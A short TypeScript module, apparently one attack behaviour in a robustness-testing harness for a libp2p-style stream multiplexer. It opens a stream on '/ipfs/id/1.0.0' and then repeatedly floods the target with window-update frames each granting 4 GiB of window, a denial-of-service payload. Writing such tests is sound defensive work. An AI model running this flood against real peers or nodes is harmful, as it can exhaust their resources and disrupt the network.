/** Grants of 4 GiB of window for one stream, again and again. */
import type { Behaviour } from '../attack/target.js'
import { flooding, FRAME, header, opening } from '../attack/wire.js'

const WINDOWS = Buffer.concat(Array.from({ length: 100 }, () => header(FRAME.window, 0, 1, 0xffff_ffff)))

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? opening(1, '/ipfs/id/1.0.0') : WINDOWS)
